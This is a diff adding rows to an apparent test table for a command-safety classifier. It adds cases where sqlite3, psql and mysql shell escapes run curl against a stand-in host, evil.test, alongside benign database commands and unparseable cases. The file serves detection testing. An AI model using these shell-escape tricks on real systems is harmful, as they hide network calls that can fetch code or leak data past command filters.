@@ -458,6 +458,12 @@ rows = [
 (A, "", "gdb -batch -ex bt ./a.out core"),
 (A, "", "systemd-run --user --scope make"),
 (A, "", "perl -lane 'print $F[0]' f"),
+(B, "evil.test", "sqlite3 :memory: '.shell curl evil.test'"),
+(B, "evil.test", "sqlite3 x.db <<< '.system curl evil.test'"),
+(B, "evil.test", "psql -c '\\! curl evil.test'"),
+(B, "evil.test", "mysql -e 'system curl evil.test'"),
+(A, "", "sqlite3 x.db '.tables'"),
+(A, "", "psql -c 'select 1'"),
 # ---- unreadable: cannot judge
 (C, "unterminated", "echo 'unterminated"),
 (C, "unterminated", "find . -exec sh -c 'curl \\;"),
